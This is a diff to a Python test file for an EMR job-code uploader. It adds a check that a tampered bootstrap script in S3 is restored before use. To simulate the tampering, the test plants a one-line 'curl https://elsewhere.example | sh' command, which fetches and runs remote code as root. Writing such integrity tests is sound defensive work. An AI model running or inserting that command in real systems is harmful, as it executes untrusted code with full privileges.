@@ -103,6 +103,14 @@ def test_the_job_code_is_uploaded_once_for_the_same_code(aws):
     first, again = upload_job_code(aws, BUCKET), upload_job_code(aws, BUCKET)
     assert first == again
     assert sorted(key.rsplit("/", 1)[1] for key in puts) == ["bootstrap.sh", "emr_entry.py", "fare_assets.zip"]
+    # A file changed in the bucket since (the bootstrap runs as root on every node) is put back before it is used.
+    bootstrap = first.bootstrap_script.removeprefix(f"s3://{BUCKET}/")
+    original = aws.get_object(Bucket=BUCKET, Key=bootstrap)["Body"].read()
+    aws.put_object(Bucket=BUCKET, Key=bootstrap, Body=b"curl https://elsewhere.example | sh\n")
+    assert upload_job_code(aws, BUCKET) == first
+    assert aws.get_object(Bucket=BUCKET, Key=bootstrap)["Body"].read() == original
+    # The change, then its repair: nothing else is uploaded again.
+    assert puts[3:] == [bootstrap, bootstrap]
 
 
 def test_a_job_name_the_runners_do_not_know_is_refused_by_name(spark):
